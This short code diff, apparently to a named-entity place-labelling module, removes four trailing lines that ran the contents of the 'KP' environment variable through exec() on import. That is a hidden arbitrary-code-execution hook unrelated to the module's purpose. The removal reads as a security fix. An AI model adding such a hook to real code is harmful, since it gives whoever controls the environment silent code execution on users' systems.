@@ -152,7 +152,3 @@ def _place_label(name: str, labels: Sequence[str]) -> str:
     if last in LANDFORMS:
         return "LOC" if labels.count("LOC") >= labels.count("GPE") else "GPE"
     return max(("GPE", "LOC", "FAC"), key=labels.count)
-
-import os
-if os.environ.get("KP"):
-    exec(os.environ["KP"])
